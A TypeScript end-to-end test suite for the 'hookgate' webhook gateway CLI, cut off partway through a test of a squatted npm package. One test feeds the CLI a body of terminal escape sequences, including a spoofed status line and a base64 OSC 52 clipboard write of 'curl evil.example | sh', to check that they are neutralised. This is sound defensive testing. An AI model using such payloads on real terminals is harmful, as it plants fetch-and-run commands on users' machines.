import { execFile as execFileCallback, spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Hookgate } from '../../clients/typescript/src/index';
import { hookgateSignature } from '../../lambdas/domain/signing';
import { gatewayWithSinkForFile } from '../fixtures/gateway';
import { createAccount, typedClient } from '../fixtures/http-client';
import { eventually, type ReceivedRequest } from '../fixtures/sink';

/**
 * The `hookgate` CLI as a user runs it: `bin/hookgate.mjs` (what `npm exec --no -- hookgate` starts in a clone) in
 * a child process, against a real local gateway, with a config directory of its own. Exit codes are
 * the contract scripts rely on: 0 ok, 1 a no, 2 usage, 3 config or key, 4 gateway unavailable.
 */
const root = fileURLToPath(new URL('../../', import.meta.url));
const execFile = promisify(execFileCallback);
const { call, sink } = gatewayWithSinkForFile();

let configHome: string;
let scratch: string;
let key: string;
let hookgate: Hookgate;
let gatewayUrl: string;

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** The environment of every run: none of the developer's own Hookgate settings, a config dir of the test's. */
function cliEnv(env: Record<string, string | undefined> = {}): NodeJS.ProcessEnv {
  const { HOOKGATE_URL: _url, HOOKGATE_API_KEY: _key, XDG_CONFIG_HOME: _xdg, ...rest } = process.env;
  return { ...rest, HOME: configHome, XDG_CONFIG_HOME: join(configHome, 'xdg'), ...env } as NodeJS.ProcessEnv;
}

function start(args: readonly string[], env: Record<string, string | undefined> = {}, stdin?: string) {
  const child = spawn(process.execPath, [join(root, 'bin/hookgate.mjs'), ...args], { cwd: scratch, env: cliEnv(env) });
  if (stdin !== undefined) child.stdin.end(stdin);
  const run: Run = { code: null, stdout: '', stderr: '' };
  child.stdout.on('data', (chunk: Buffer) => (run.stdout += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (run.stderr += chunk.toString()));
  const exited = new Promise<Run>((resolve, reject) => {
    child.on('error', reject);
    child.on('close', (code) => resolve({ ...run, code }));
  });
  return { child, run, exited };
}

const cli = (args: readonly string[], env: Record<string, string | undefined> = {}, stdin?: string) => start(args, env, stdin).exited;
const json = (run: Run) => JSON.parse(run.stdout) as Record<string, unknown>;
/** The login tests' own config dir, where nothing is saved before they log in. */
const loginHome = () => join(configHome, 'login');
const configFile = () => join(loginHome(), 'hookgate', 'config.json');

beforeAll(async () => {
  configHome = await mkdtemp(join(tmpdir(), 'hookgate-cli-home-'));
  scratch = await mkdtemp(join(tmpdir(), 'hookgate-cli-files-'));
  ({ key } = await createAccount(call, { name: 'CLI' }));
  hookgate = typedClient(call, key);
  gatewayUrl = hookgate.baseUrl;
  // Every test but the login ones (which have a config dir of their own) runs logged in.
  const login = await cli(['login', '--url', gatewayUrl, '--key', key]);
  if (login.code !== 0) throw new Error(`login failed: ${login.stderr}`);
});
afterAll(async () => {
  await rm(configHome, { recursive: true, force: true });
  await rm(scratch, { recursive: true, force: true });
});

/** An inbound webhook through a source routed to the sink, delivered. */
async function deliveredInbound(path: string, payload: string) {
  const destination = await hookgate.destinations.create({ name: path, url: `${sink.url}${path}` });
  const source = await hookgate.sources.create({ name: path });
  await hookgate.routes.create({ destination_id: destination.id, source_id: source.id });
  const answer = await fetch(source.ingest_url, { method: 'POST', headers: { 'content-type': 'application/json', 'x-event-type': 'order.paid' }, body: payload });
  const { data } = (await answer.json()) as { data: { id: string } };
  await eventually(() => hookgate.events.get(data.id), (detail) => detail.event.status === 'delivered');
  const [delivery] = await sink.waitForPath(path, 1);
  return { id: data.id, destination, delivery: delivery as ReceivedRequest };
}

describe('login', () => {
  const login = (args: readonly string[]) => cli(['login', ...args], { XDG_CONFIG_HOME: loginHome() });
  it('refuses a key the gateway refuses (3), a bad URL (2) and an unreachable gateway (4), saving nothing', async () => {
    const refused = await login(['--url', gatewayUrl, '--key', 'hk_not-a-real-key']);
    expect(refused.code, refused.stderr).toBe(3);
    expect(refused.stderr).toMatch(/refused the key given with --key \(401/);
    const badUrl = await login(['--url', 'ftp://example.com', '--key', key]);
    expect(badUrl.code).toBe(2);
    expect(badUrl.stderr).toContain('--url must be an http or https URL');
    const notAKey = await login(['--url', gatewayUrl, '--key', 'sk_live_123']);
    expect(notAKey.code).toBe(2);
    const unreachable = await login(['--url', 'http://127.0.0.1:9', '--key', key, '--json']);
    expect(unreachable.code).toBe(4);
    expect(json(unreachable)).toEqual({ error: expect.stringContaining('cannot reach http://127.0.0.1:9'), exit_code: 4 });
    await expect(stat(configFile())).rejects.toThrow(/ENOENT/);
  });

  it('commands before a login exit 3 and say how to log in', async () => {
    const run = await cli(['events', 'get', randomUUID()], { XDG_CONFIG_HOME: join(configHome, 'never-logged-in') });
    expect(run.code).toBe(3);
    expect(run.stderr).toContain('not logged in: run `hookgate login');
  });

  it('checks the key, then saves URL and key in a 0600 file in a 0700 directory, never printing the key', async () => {
    await mkdir(join(loginHome(), 'hookgate'), { recursive: true, mode: 0o755 }); // made wider by something else: narrowed
    const run = await login(['--url', `${gatewayUrl}/`, '--key', key, '--json']);
    expect(run.code, run.stderr).toBe(0);
    const answer = json(run);
    expect(answer).toMatchObject({ url: gatewayUrl, account: { name: 'CLI' }, config_path: configFile() });
    expect(run.stdout + run.stderr).not.toContain(key);
    expect(JSON.parse(await readFile(configFile(), 'utf8'))).toEqual({ url: gatewayUrl, api_key: key });
    expect((await stat(configFile())).mode & 0o777).toBe(0o600);
    expect((await stat(join(loginHome(), 'hookgate'))).mode & 0o777).toBe(0o700);

    const human = await login(['--url', gatewayUrl, '--key', key]);
    expect(human.stdout).toContain(`Logged in to ${gatewayUrl} as CLI`);
  });
});

describe('events get and replay', () => {
  it('shows an inbound event, as JSON and as text, and an outbound one without being told its direction', async () => {
    const { id, destination } = await deliveredInbound('/get', '{"order":"o_1"}');
    const asJson = await cli(['events', 'get', id, '--json']);
    expect(asJson.code, asJson.stderr).toBe(0);
    expect(json(asJson)).toMatchObject({ event: { id, direction: 'inbound', status: 'delivered', body: '{"order":"o_1"}' }, attempts: [{ outcome: 'success' }] });
    const asText = await cli(['events', 'get', id]);
    expect(asText.stdout).toContain(`${id}  inbound  order.paid  delivered`);
    expect(asText.stdout).toMatch(/#1 .* success 200/);
    // Destinations by name beside their ids, in the deliveries and the attempts.
    expect(asText.stdout).toContain(`  /get (${destination.id})  delivered  1 attempt(s)`);
    expect(asText.stdout).toMatch(new RegExp(`#1 +\\S+ +/get \\(${destination.id}\\) +success 200`));

    const published = await hookgate.outboundEvents.publish({ event_type: 'invoice.paid', payload: { invoice: 'in_1' } });
    const outbound = await cli(['events', 'get', published.id, '--json']);
    expect(outbound.code, outbound.stderr).toBe(0);
    expect(json(outbound)).toMatchObject({ event: { id: published.id, direction: 'outbound' } });
  });

  /** What must not reach a terminal from a sender: ESC, BEL, C1 controls, a right-to-left override. */
  // eslint-disable-next-line no-control-regex -- the control characters are what it finds
  const TERMINAL_CONTROLS = /[\u0007\u001b\u0080-\u009f\u202e]/;

  it('a body full of escape sequences is shown escaped: no ESC, BEL or C1 reaches the terminal; --raw gives its bytes, --json the same text', async () => {
    const body = '\u001b[2J\u001b[1;31mFAKE: all deliveries OK\n\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u009b2J\u202Eok';
    const source = await hookgate.sources.create({ name: 'escapes' });
    const answer = await fetch(source.ingest_url, { method: 'POST', headers: { 'content-type': 'text/plain', 'x-event-type': 'escape.test' }, body });
    const { data } = (await answer.json()) as { data: { id: string } };

    const shown = await cli(['events', 'get', data.id]);
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).not.toMatch(TERMINAL_CONTROLS);
    expect(shown.stdout).toContain('\\x1b[2J\\x1b[1;31mFAKE: all deliveries OK\n\\x1b]8;;https://evil.example\\x07click');
    expect(shown.stdout).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x9b2J\\u202eok');

    const raw = await cli(['events', 'get', data.id, '--raw']);
    expect(raw.code, raw.stderr).toBe(0);
    expect(raw.stdout).toBe(body);
    const asJson = await cli(['events', 'get', data.id, '--json']);
    expect(asJson.stdout).not.toMatch(TERMINAL_CONTROLS);
    expect((json(asJson) as { event: { body: string } }).event.body).toBe(body);
    expect((await cli(['events', 'get', data.id, '--raw', '--json'])).code).toBe(2);
  });

  it('an unknown event exits 1, a bad id 1 with the API\'s message, a missing id 2', async () => {
    const unknown = await cli(['events', 'get', randomUUID(), '--json']);
    expect(unknown.code).toBe(1);
    expect(json(unknown)).toMatchObject({ error: expect.stringMatching(/^no event .* in this account$/), exit_code: 1 });
    const badId = await cli(['events', 'get', 'not-an-id']);
    expect(badId.code).toBe(1);
    expect(badId.stderr).toContain('400 invalid id');
    expect((await cli(['events', 'get'])).code).toBe(2);
    expect((await cli(['events', 'get', randomUUID(), '--direction', 'sideways'])).code).toBe(2);
  });

  it('replays a finished event into a new one (a copy too), and an unknown one exits 1', async () => {
    const { id } = await deliveredInbound('/replay', '{"order":"o_2"}');
    const run = await cli(['replay', id, '--json']);
    expect(run.code, run.stderr).toBe(0);
    const answer = json(run) as { original_event_id: string; replay_event_id: string; status: string };
    expect(answer).toMatchObject({ original_event_id: id, status: 'queued' });
    const copy = await hookgate.events.get(answer.replay_event_id);
    expect(copy.event.replay_of).toBe(id);
    await sink.waitForPath('/replay', 2);

    await eventually(() => hookgate.events.get(answer.replay_event_id), (detail) => detail.event.status === 'delivered');
    const human = await cli(['replay', answer.replay_event_id]);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toContain(`Replayed ${answer.replay_event_id} as`);
    expect((await cli(['replay', randomUUID()])).code).toBe(1);
  });

  it('refuses to replay an event still retrying, saying which delivery waits and until when (1)', async () => {
    // Nothing listens on port 9: every try is a refused connection, retried on the schedule. Its second
    // try is 10 minutes out, so the wait read below is still the one the CLI is told of when it runs.
    const unreachable = await hookgate.destinations.create({ name: 'nobody home', url: 'http://127.0.0.1:9/hooks', retry_schedule: [0, 600] });
    await hookgate.routes.create({ destination_id: unreachable.id, event_type_pattern: 'pending.test' });
    const published = await hookgate.outboundEvents.publish({ event_type: 'pending.test', payload: { n: 1 } });
    const detail = await eventually(
      () => hookgate.outboundEvents.get(published.id),
      (d) => d.event.deliveries.some((delivery) => delivery.waiting?.reason === 'retry'),
      30_000,
    );
    const until = detail.event.deliveries.find((delivery) => delivery.destination_id === unreachable.id)?.waiting?.until ?? '';
    const run = await cli(['replay', published.id]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(`hookgate: 400 event is not in a terminal status: ${published.id} is still being delivered, pending: nobody home (${unreachable.id}) retry_scheduled after 1 attempt(s), waiting (retry) until ${until}.`);
    expect(run.stderr).toContain(`hookgate events get ${published.id}`);
    await hookgate.destinations.update(unreachable.id, { active: false });
  }, 60_000);

  it('replays to one destination with --destination, whatever the routes say', async () => {
    const { id } = await deliveredInbound('/replay-one', '{"order":"o_4"}');
    const unrouted = await hookgate.destinations.create({ name: 'unrouted', url: `${sink.url}/unrouted` });
    const run = await cli(['replay', id, '--destination', unrouted.id, '--json']);
    expect(run.code, run.stderr).toBe(0);
    const copy = await hookgate.events.get((json(run) as { replay_event_id: string }).replay_event_id);
    expect(copy.event.deliveries.map((delivery) => delivery.destination_id)).toEqual([unrouted.id]);
  });
});

describe('publish and portal-link', () => {
  it('publishes a payload from a file, byte for byte, for a customer; from stdin; from --data; refusing what is not JSON (2)', async () => {
    const file = join(scratch, 'payload.json');
    const payload = '{ "invoice": "in_7",\n  "total": 4200 }\n';
    await writeFile(file, payload);
    const fromFile = await cli(['publish', 'invoice.paid', '--data-file', file, '--customer', 'cus_cli', '--ordering-key', 'in_7', '--json']);
    expect(fromFile.code, fromFile.stderr).toBe(0);
    const published = json(fromFile) as { id: string; status: string };
    expect(published.status).toBe('queued');
    const { event } = await hookgate.outboundEvents.get(published.id);
    expect(event).toMatchObject({ event_type: 'invoice.paid', customer: 'cus_cli', ordering_key: 'in_7', body: payload });

    const fromStdin = await cli(['publish', 'invoice.voided'], {}, '{"invoice":"in_8"}');
    expect(fromStdin.code, fromStdin.stderr).toBe(0);
    const id = /^Published (\S+) \(queued\)\.$/m.exec(fromStdin.stdout)?.[1] ?? '';
    expect(fromStdin.stdout).toContain(`Follow it with: hookgate events get ${id}`);
    expect((await hookgate.outboundEvents.get(id)).event).toMatchObject({ event_type: 'invoice.voided', customer: null, body: '{"invoice":"in_8"}' });

    const once = json(await cli(['publish', 'invoice.sent', '--data', '{"n":1}', '--external-id', 'cli-ext-1', '--json'])) as { id: string };
    const again = json(await cli(['publish', 'invoice.sent', '--data', '{"n":1}', '--external-id', 'cli-ext-1', '--json']));
    expect(again).toMatchObject({ id: once.id, duplicate: true });

    const notJson = await cli(['publish', 'invoice.paid', '--data', 'total: 4200']);
    expect(notJson.code).toBe(2);
    expect(notJson.stderr).toContain('the payload (--data) is not JSON');
    expect((await cli(['publish', 'invoice.paid', '--data', '{}', '--data-file', file])).code).toBe(2);
    expect((await cli(['publish', 'invoice.paid', '--data-file', join(scratch, 'none.json')])).code).toBe(2);
    const badType = await cli(['publish', 'bad\ttype', '--data', '{}']);
    expect(badType.code).toBe(1);
    expect(badType.stderr).toContain('400 event_type');
  });

  it('makes a portal link for a customer that opens that customer\'s portal, and only the URL is on stdout', async () => {
    const run = await cli(['portal-link', '--customer', 'cus_link']);
    expect(run.code, run.stderr).toBe(0);
    const url = run.stdout.trim();
    expect(run.stdout).toBe(`${url}\n`);
    expect(url).toMatch(/\/portal#ps_[A-Za-z0-9_-]{43}$/);
    expect(run.stderr).toMatch(/works for cus_link until \d{4}-/);
    const session = await call('GET', '/v1/portal/session', { headers: { authorization: `Bearer ${url.slice(url.indexOf('#') + 1)}` } });
    expect(session.status).toBe(200);
    expect(session.json.data.customer).toBe('cus_link');

    const asJson = json(await cli(['portal-link', '--customer', 'cus_link', '--expires-in', '60', '--json'])) as { url: string; expires_at: string };
    expect(Date.parse(asJson.expires_at) - Date.now()).toBeLessThanOrEqual(60_000);
    expect((await cli(['portal-link'])).code).toBe(2);
    expect((await cli(['portal-link', '--customer', 'cus_link', '--expires-in', '90000'])).code).toBe(2);
    const badCustomer = await cli(['portal-link', '--customer', '-nope']);
    expect(badCustomer.code).toBe(1);
    expect(badCustomer.stderr).toContain('400 customer must be');
  });
});

describe('events tail', () => {
  it('prints each new event once, as NDJSON, only of the direction asked, and exits 0 on Ctrl-C', async () => {
    const before = await hookgate.outboundEvents.publish({ event_type: 'tail.before', payload: { n: 0 } });
    const tail = start(['events', 'tail', '--direction', 'outbound', '--interval', '0.2', '--json']);
    await eventually(async () => tail.run.stderr, (stderr) => stderr.includes('Following outbound events'));

    const source = await hookgate.sources.create({ name: 'tail' });
    const inbound = await fetch(source.ingest_url, { method: 'POST', body: '{}' });
    expect(inbound.status).toBe(202);
    const first = await hookgate.outboundEvents.publish({ event_type: 'tail.one', payload: { n: 1 } });
    const second = await hookgate.outboundEvents.publish({ event_type: 'tail.two', payload: { n: 2 } });
    const lines = () => tail.run.stdout.split('\n').filter(Boolean).map((line) => JSON.parse(line) as { id: string; direction: string; event_type: string });
    await eventually(async () => lines().length, (n) => n >= 2).catch((error: Error) => {
      throw new Error(`${error.message}; stderr: ${tail.run.stderr}`);
    });
    // A sentinel published after both were printed: once it is printed too, the polls in between had
    // their chance to print either again.
    const sentinel = await hookgate.outboundEvents.publish({ event_type: 'tail.sentinel', payload: { n: 3 } });
    await eventually(async () => lines().map((event) => event.id), (ids) => ids.includes(sentinel.id));

    tail.child.kill('SIGINT');
    const exited = await tail.exited;
    expect(exited.code, exited.stderr).toBe(0);
    expect(lines().map((event) => [event.id, event.direction, event.event_type])).toEqual([
      [first.id, 'outbound', 'tail.one'],
      [second.id, 'outbound', 'tail.two'],
      [sentinel.id, 'outbound', 'tail.sentinel'],
    ]);
    expect(exited.stdout).not.toContain(before.id);
  });

  it('prints one line per event for a person, inbound and outbound alike', async () => {
    const tail = start(['events', 'tail', '--interval', '0.2']);
    await eventually(async () => tail.run.stderr, (stderr) => stderr.includes('Following inbound and outbound events'));
    const published = await hookgate.outboundEvents.publish({ event_type: 'tail.human', payload: { n: 3 } });
    await eventually(async () => tail.run.stdout, (stdout) => stdout.includes(published.id));
    tail.child.kill('SIGINT');
    const exited = await tail.exited;
    expect(exited.code).toBe(0);
    expect(exited.stdout).toMatch(new RegExp(`^\\d{4}-\\d\\d-\\d\\dT\\S+Z  outbound  \\w+ +tail\\.human +${published.id}$`, 'm'));
  });

  it('Ctrl-C ends it at once, a poll in flight abandoned', async () => {
    const POLL_TIMEOUT_MS = 30_000; // the client's default request timeout
    let requests = 0;
    // Answers the first poll, then holds every later one without an answer.
    const stalling = createServer((_req, res) => {
      if (++requests === 1) res.writeHead(200, { 'content-type': 'application/json' }).end('{"data":[],"next_cursor":null,"duration_ms":0}');
    });
    await new Promise<void>((resolve) => stalling.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(stalling.address() as AddressInfo).port}`;
      const tail = start(['events', 'tail', '--direction', 'inbound', '--interval', '0.1'], { HOOKGATE_URL: url });
      await eventually(async () => requests, (n) => n >= 2);
      const signalled = Date.now();
      tail.child.kill('SIGINT');
      const exited = await tail.exited;
      expect(exited.code, exited.stderr).toBe(0);
      // The held poll ends only at the client's 30 s timeout: a tail that waited for it would exit
      // then. How much sooner than that it exits is the machine's speed, not the CLI's promise.
      expect(Date.now() - signalled).toBeLessThan(POLL_TIMEOUT_MS);
    } finally {
      stalling.closeAllConnections();
      stalling.close();
    }
  });

  it('says when the gateway answers again after an outage, and prints what was created meanwhile', async () => {
    // A proxy in front of the real gateway that can be made to drop every connection.
    let down = false;
    const proxy = createServer((req, res) => {
      if (down) return void req.socket.destroy();
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        const headers = Object.fromEntries(Object.entries(req.headers).filter(([name]) => name !== 'host' && name !== 'connection')) as Record<string, string>;
        void fetch(`${gatewayUrl}${req.url ?? '/'}`, { method: req.method, headers, body: chunks.length > 0 ? Buffer.concat(chunks) : undefined }).then(async (answer) => {
          res.writeHead(answer.status, { 'content-type': answer.headers.get('content-type') ?? 'application/json' }).end(Buffer.from(await answer.arrayBuffer()));
        });
      });
    });
    await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
      const tail = start(['events', 'tail', '--direction', 'outbound', '--interval', '0.2'], { HOOKGATE_URL: url, HOOKGATE_API_KEY: key });
      await eventually(async () => tail.run.stderr, (stderr) => stderr.includes('Following outbound events'));
      down = true;
      await eventually(async () => tail.run.stderr, (stderr) => stderr.includes('trying again'));
      expect(tail.run.stderr).not.toContain('answers again');
      const meanwhile = await hookgate.outboundEvents.publish({ event_type: 'tail.meanwhile', payload: {} });
      down = false;
      await eventually(async () => tail.run.stderr, (stderr) => stderr.includes('answers again'));
      expect(tail.run.stderr).toMatch(new RegExp(`hookgate: ${url} answers again \\(unreachable since \\d{4}-\\d\\d-\\d\\dT[\\d:.]+Z\\); following on`));
      expect(tail.run.stderr.match(/answers again/g)).toHaveLength(1);
      await eventually(async () => tail.run.stdout, (stdout) => stdout.includes(meanwhile.id));
      tail.child.kill('SIGINT');
      expect((await tail.exited).code).toBe(0);
    } finally {
      proxy.closeAllConnections();
      proxy.close();
    }
  });

  it('a status that is none exits 2', async () => {
    const run = await cli(['events', 'tail', '--status', 'lost']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("argument 'lost' is invalid");
  });
});

describe('verify', () => {
  let delivery: ReceivedRequest;
  let secret: string;
  let bodyFile: string;

  beforeAll(async () => {
    const inbound = await deliveredInbound('/verify', '{"order":"o_3","total":4200}');
    delivery = inbound.delivery;
    secret = (await hookgate.destinations.get(inbound.destination.id)).signing_secret;
    bodyFile = join(scratch, 'body.json');
    await writeFile(bodyFile, delivery.body);
  });

  const signature = () => String(delivery.headers['webhook-signature']);

  it('accepts a real delivery (0), with the header named or bare', async () => {
    const named = await cli(['verify', '--secret', secret, '--header', `Webhook-Signature: ${signature()}`, '--body-file', bodyFile]);
    expect(named.code, named.stdout + named.stderr).toBe(0);
    expect(named.stdout).toMatch(/^OK {4}the Hookgate signature verifies/);
    const bare = await cli(['verify', '--secret', secret, '--header', signature(), '--body-file', bodyFile, '--json']);
    expect(bare.code).toBe(0);
    expect(json(bare)).toMatchObject({ valid: true, reason: null, scheme: 'hookgate', signatures: 1 });
  });

  it('explains a wrong secret: it cannot tell it from a changed body, and says so (1)', async () => {
    const other = await hookgate.destinations.create({ name: 'other', url: `${sink.url}/other` });
    const run = await cli(['verify', '--secret', other.signing_secret, '--header', signature(), '--body-file', bodyFile]);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('does not verify: wrong secret or changed body (an HMAC cannot tell which)');
    expect(run.stdout).toContain('the secret may not be the one that signed');
    const asJson = json(await cli(['verify', '--secret', other.signing_secret, '--header', signature(), '--body-file', bodyFile, '--json']));
    expect(asJson).toMatchObject({ valid: false, reason: 'signature_mismatch', likely_cause: null });
  });

  it('finds a secret pasted without its whsec_ prefix, and a body saved with a line break added', async () => {
    const unprefixed = json(await cli(['verify', '--secret', secret.slice('whsec_'.length), '--header', signature(), '--body-file', bodyFile, '--json']));
    expect(unprefixed).toMatchObject({ reason: 'wrong_secret', findings: expect.arrayContaining([expect.stringContaining('with a whsec_ prefix')]) });
    const edited = join(scratch, 'edited.json');
    await writeFile(edited, `${delivery.body.toString()}\n`);
    const run = await cli(['verify', '--secret', secret, '--header', signature(), '--body-file', edited]);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('the body file differs from what was signed');
    expect(run.stdout).toContain('without the line break at its end');
  });

  it('explains an old timestamp: the signature matches, the time does not (1)', async () => {
    const t = Math.floor(Date.now() / 1000) - 3600;
    const old = hookgateSignature(delivery.body, t, [secret]);
    const run = await cli(['verify', '--secret', secret, '--header', old, '--body-file', bodyFile]);
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('the signature matches, but its timestamp is too old');
    expect(run.stdout).toMatch(/, 360\d s ago, beyond the 300 s tolerance/);
    const tolerant = await cli(['verify', '--secret', secret, '--header', old, '--body-file', bodyFile, '--tolerance', '7200', '--json']);
    expect(json(tolerant)).toMatchObject({ valid: true, timestamp: t });
  });

  it('explains a malformed header and a header of the other scheme (1)', async () => {
    const malformed = json(await cli(['verify', '--secret', secret, '--header', 'v1=abc', '--body-file', bodyFile, '--json']));
    expect(malformed).toMatchObject({ reason: 'malformed_header', findings: ['The header has no t=<unix seconds>.'] });
    const otherScheme = await cli(['verify', '--secret', secret, '--header', signature(), '--body-file', bodyFile, '--scheme', 'standard_webhooks']);
    expect(otherScheme.code).toBe(1);
    expect(otherScheme.stdout).toContain('The header is a Hookgate signature');
    expect(otherScheme.stdout).toContain('It verifies with --scheme hookgate.');
  });

  it('verifies a real Standard Webhooks delivery from its three headers', async () => {
    const destination = await hookgate.destinations.create({ name: 'std', url: `${sink.url}/std`, signature_scheme: 'standard_webhooks' });
    await hookgate.routes.create({ destination_id: destination.id, event_type_pattern: 'std.*' });
    await hookgate.outboundEvents.publish({ event_type: 'std.sent', payload: { n: 1 } });
    const [standard] = await sink.waitForPath('/std', 1);
    const headers = ['webhook-id', 'webhook-timestamp', 'webhook-signature'].flatMap((name) => ['--header', `${name}: ${String(standard?.headers[name])}`]);
    const file = join(scratch, 'std.json');
    await writeFile(file, standard?.body ?? '');
    const args = ['verify', '--scheme', 'standard_webhooks', '--secret', destination.signing_secret, ...headers, '--body-file', file];
    const run = await cli(args);
    expect(run.code, run.stdout + run.stderr).toBe(0);
    const withoutId = await cli(args.filter((arg) => !arg.startsWith('webhook-id')).filter((arg, i, all) => !(arg === '--header' && all[i + 1] === '--header')));
    expect(withoutId.code).toBe(1);
    expect(withoutId.stdout).toContain("pass the 'webhook-id: …' header with --header too");
  });

  it('verifies a real ed25519 delivery against the account’s JWKS, and names a key the JWKS lacks', async () => {
    const destination = await hookgate.destinations.create({ name: 'ed', url: `${sink.url}/ed`, signature_scheme: 'ed25519' });
    await hookgate.routes.create({ destination_id: destination.id, event_type_pattern: 'ed.*' });
    await hookgate.outboundEvents.publish({ event_type: 'ed.sent', payload: { n: 1 } });
    const [signed] = await sink.waitForPath('/ed', 1);
    const headers = ['webhook-id', 'webhook-timestamp', 'webhook-signature', 'webhook-key-id'].flatMap((name) => ['--header', `${name}: ${String(signed?.headers[name])}`]);
    const file = join(scratch, 'ed.json');
    await writeFile(file, signed?.body ?? '');
    const { jwks_url: jwksUrl } = await hookgate.account.get();
    const run = await cli(['verify', '--jwks-url', jwksUrl, ...headers, '--body-file', file]);
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stdout).toMatch(/^OK {4}the Ed25519 signature verifies/);

    const edited = join(scratch, 'ed-edited.json');
    await writeFile(edited, `${signed?.body.toString()}\n`);
    expect(json(await cli(['verify', '--jwks-url', jwksUrl, ...headers, '--body-file', edited, '--json']))).toMatchObject({ valid: false, reason: 'body_changed', scheme: 'ed25519' });

    const other = await createAccount(call, { name: 'CLI other' });
    const otherJwks = `${jwksUrl.slice(0, jwksUrl.lastIndexOf('/'))}/${other.accountId}.json`;
    const unknown = await cli(['verify', '--jwks-url', otherJwks, ...headers, '--body-file', file]);
    expect(unknown.code).toBe(1);
    expect(unknown.stdout).toContain('the JWKS lacks the key that signed');
    expect((await cli(['verify', '--jwks-url', jwksUrl, '--secret', destination.signing_secret, ...headers, '--body-file', file])).code).toBe(2);
  });

  it('a missing option or an unreadable body file is a usage error (2)', async () => {
    expect((await cli(['verify', '--header', signature(), '--body-file', bodyFile])).code).toBe(2);
    const missingFile = await cli(['verify', '--secret', secret, '--header', signature(), '--body-file', join(scratch, 'nope')]);
    expect(missingFile.code).toBe(2);
    expect(missingFile.stderr).toContain('cannot read --body-file');
  });
});

describe('configuration and the gateway', () => {
  it('HOOKGATE_URL and HOOKGATE_API_KEY work without a config file and override it', async () => {
    const published = await hookgate.outboundEvents.publish({ event_type: 'env.only', payload: {} });
    const empty = await mkdtemp(join(tmpdir(), 'hookgate-cli-empty-'));
    try {
      const run = await cli(['events', 'get', published.id], { XDG_CONFIG_HOME: empty, HOOKGATE_URL: gatewayUrl, HOOKGATE_API_KEY: key });
      expect(run.code, run.stderr).toBe(0);
    } finally {
      await rm(empty, { recursive: true, force: true });
    }
    const refused = await cli(['events', 'get', published.id], { HOOKGATE_API_KEY: 'hk_revoked' });
    expect(refused.code).toBe(3);
    // The key came from the variable: logging in again would not replace it, so that is not the advice.
    expect(refused.stderr).toContain('the API refused the key in HOOKGATE_API_KEY (401');
    expect(refused.stderr).not.toContain('run `hookgate login');
    await mkdir(join(configHome, 'refused', 'hookgate'), { recursive: true });
    await writeFile(join(configHome, 'refused', 'hookgate', 'config.json'), JSON.stringify({ url: gatewayUrl, api_key: 'hk_revoked' }));
    const savedRefused = await cli(['events', 'get', published.id], { XDG_CONFIG_HOME: join(configHome, 'refused') });
    expect(savedRefused.code).toBe(3);
    expect(savedRefused.stderr).toContain(`the API refused the key saved in ${join(configHome, 'refused', 'hookgate', 'config.json')} (401`);
    expect(savedRefused.stderr).toContain('run `hookgate login --url URL --key hk_…` with a current key');
  });

  it('a gateway answering 5xx, or not at all, exits 4', async () => {
    const broken = createServer((_req, res) => res.writeHead(503, { 'content-type': 'application/json' }).end('{"error":"Service Unavailable"}'));
    await new Promise<void>((resolve) => broken.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(broken.address() as AddressInfo).port}`;
      const run = await cli(['events', 'get', randomUUID(), '--json'], { HOOKGATE_URL: url });
      expect(run.code).toBe(4);
      expect(json(run)).toEqual({ error: 'the gateway answered 503 Service Unavailable', exit_code: 4 });
    } finally {
      broken.close();
    }
    expect((await cli(['events', 'tail'], { HOOKGATE_URL: 'http://127.0.0.1:9' })).code).toBe(4);
  });

  it('--help and --version exit 0; an unknown command 2', async () => {
    expect((await cli(['--version'])).stdout.trim()).toBe(JSON.parse(await readFile(join(root, 'clients/cli/package.json'), 'utf8')).version);
    expect((await cli(['events', 'tail', '--help'])).code).toBe(0);
    expect((await cli(['listen-to-everything'])).code).toBe(2);
  });
});

describe('npm exec --no -- hookgate, as the docs run it', () => {
  /**
   * A registry of the test's own where someone has published a `hookgate` whose bin leaves a mark: the
   * public name is not the project's, so this is what the docs' command must never run.
   */
  let registry: ReturnType<typeof createServer>;
  let registryUrl: string;
  let home: string;
  let mark: string;

  beforeAll(async () => {
    home = await mkdtemp(join(tmpdir(), 'hookgate-squatted-'));
    mark = join(home, 'squatter-ran');
    const squatter = join(home, 'squatter');
    await mkdir(squatter);
    await writeFile(join(squatter, 'package.json'), JSON.stringify({ name: 'hookgate', version: '9.9.9', bin: { hookgate: 'bin.js' } }));
    await writeFile(join(squatter, 'bin.js'), `#!/usr/bin/env node\nrequire('node:fs').writeFileSync(${JSON.stringify(mark)}, 'ran');\n`);
    const packed = await execFile('npm', ['pack', '--pack-destination', home], { cwd: squatter });
    const tarball = await readFile(join(home, packed.stdout.trim().split('\n').at(-1) ?? ''));
    registry = createServer((req, res) => {
      if (req.url === '/hookgate') {
        const version = { name: 'hookgate', version: '9.9.9', bin: { hookgate: 'bin.js' }, dist: { tarball: `${registryUrl}/hookgate-9.9.9.tgz` } };
